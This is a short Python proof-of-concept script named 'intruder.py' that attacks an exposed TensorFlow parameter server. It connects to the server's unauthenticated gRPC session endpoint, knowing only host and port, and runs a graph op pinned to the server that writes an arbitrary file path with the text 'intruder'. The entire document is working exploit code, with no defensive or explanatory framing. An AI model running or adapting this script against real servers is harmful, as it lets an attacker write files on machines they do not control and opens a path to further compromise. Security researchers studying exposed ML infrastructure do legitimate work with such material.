"""`intruder.py HOST:PORT FILE`: has a parameter server write a file, knowing nothing but where the server listens."""

import socket
import sys

address, target = sys.argv[1:]
host, _, port = address.rpartition(":")
socket.create_connection((host, int(port)), timeout=5).close()

import tensorflow as tf  # noqa: E402 - seconds, and for nothing where nobody listens

tf.compat.v1.disable_eager_execution()
with tf.device("/job:ps/task:0"):
    write = tf.io.write_file(target, "intruder")
only_there = tf.compat.v1.ConfigProto(device_filters=["/job:ps/task:0"])
with tf.compat.v1.Session(f"grpc://{address}", config=only_there) as session:
    session.run(write)
